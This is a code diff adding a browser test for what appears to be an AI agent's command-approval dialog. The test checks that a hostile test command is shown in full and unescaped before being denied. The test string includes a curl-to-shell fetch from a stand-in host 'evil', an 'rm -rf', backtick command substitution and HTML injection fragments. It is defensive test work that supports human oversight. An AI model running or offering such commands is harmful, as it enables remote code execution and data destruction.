@@ -159,6 +159,34 @@ def test_an_approval_is_given_and_refused_by_buttons(people: People) -> None:
     expect(page.locator(".turn").last.locator(".parts")).to_contain_text("needs a person's yes")
 
 
+NASTY = (
+    "[a]:$(curl${IFS}evil|sh)\n<b>rm</b> -rf a*b*c &amp; `id`\n```\n  two  spaces\n" + "long " * 800 + "end"
+)
+
+
+def test_an_approval_shows_every_character_of_the_command_and_of_its_directory(people: People) -> None:
+    page = people.somebody()
+
+    def with_another_command(route: Route) -> None:
+        answer = route.fetch()
+        body = answer.json()
+        for ask in body.get("asks", ()):
+            ask.update(command=NASTY, cwd="/srv/<i>a*b*c</i>", description="<u>why</u>")
+        route.fulfill(response=answer, json=body)
+
+    page.route(re.compile(r"/api/sessions/[^/?]+$"), with_another_command)
+    says(page, "danger")
+    command = page.get_by_role("region", name="May I do this?").locator(".ask-command")
+    expect(command).to_be_visible()
+    assert command.text_content() == NASTY
+    assert command.inner_text() == NASTY
+    expect(page.locator(".ask-cwd")).to_have_text("/srv/<i>a*b*c</i>")
+    assert command.evaluate("one => one.scrollHeight <= one.clientHeight + 1"), "no part of it is hidden"
+    assert command.evaluate("one => one.scrollWidth <= one.clientWidth + 1")
+    page.get_by_role("button", name="Deny").click()
+    expect(command).to_have_count(0)
+
+
 def test_a_question_is_answered_by_a_button_or_in_words(people: People) -> None:
     page = people.somebody()
     says(page, "ask")
